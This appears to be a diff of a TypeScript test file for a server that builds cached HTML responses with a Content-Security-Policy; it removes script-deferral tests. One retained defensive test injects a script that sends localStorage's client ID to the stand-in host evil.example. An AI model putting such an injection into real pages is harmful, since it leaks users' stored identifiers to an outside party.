@@ -7,7 +7,6 @@ import {
   precompressResponse,
   reuseOrBuildResponse,
 } from './cached-response.ts';
-import { deferScripts } from './first-paint/defer-scripts.ts';
 
 const scripts = {
   context: 'window.__reactRouterContext = {};',
@@ -43,45 +42,17 @@ it('does not allow injected scripts', () => {
   const injectedCode = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
   const injected = `<p>Hello</p><script>${injectedCode}</script><script type="module" async="">${injectedCode}</script></body>`;
   const body = Buffer.from(document.body.toString().replace('</body>', injected));
-  const policy = buildCachedResponse({ ...document, body }, { path: '/', shape: late, secured: true })
-    .headers['content-security-policy'];
+  const policy = buildCachedResponse({ ...document, body }, { path: '/', secured: true }).headers[
+    'content-security-policy'
+  ];
   expect(policy).toContain(hash(scripts.context));
   expect(policy).not.toContain(hash(injectedCode));
 });
 
-const late = (html: string) => deferScripts(html, false);
-
-it('defers the scripts of a page, preloads none of them and still allows them later', () => {
-  const { plain, headers } = buildCachedResponse(document, { path: '/', shape: late, secured: true });
-  const html = plain.body.toString();
-  expect(html).not.toContain('modulepreload"');
-  expect(html).not.toContain('rel="manifest"');
-  expect(html).not.toContain('type="module"');
-  expect(html).toContain(`data-script-urls="/assets/a.js">${scripts.main}</script>`);
+it('allows a script that waits as text, and starts later', () => {
+  const body = Buffer.from(document.body.toString().replace('type="module" async=""', 'type="text/plain"'));
+  const { headers } = buildCachedResponse({ ...document, body }, { path: '/', secured: true });
   expect(headers['content-security-policy']).toContain(hash(scripts.main));
-});
-
-it('marks a page whose scripts start as soon as it is shown', () => {
-  const { plain } = buildCachedResponse(document, {
-    path: '/',
-    shape: (html) => deferScripts(html, true),
-    secured: true,
-  });
-  expect(plain.body.toString()).toContain('data-script-urls="/assets/a.js" data-eager="">');
-});
-
-it('throws when the scripts or the manifest to defer are missing', () => {
-  const other = { ...document, body: Buffer.from('<html><script type="module">1</script></html>') };
-  expect(() => buildCachedResponse(other, { path: '/', shape: late, secured: true })).toThrow(
-    'no script to put off',
-  );
-  const withoutManifest = {
-    ...document,
-    body: Buffer.from(document.body.toString().replace('"manifest"', '"other"')),
-  };
-  expect(() => buildCachedResponse(withoutManifest, { path: '/', shape: late, secured: true })).toThrow(
-    'no manifest to put off',
-  );
 });
 
 it('compresses once and returns the same ETag for the same content', async () => {
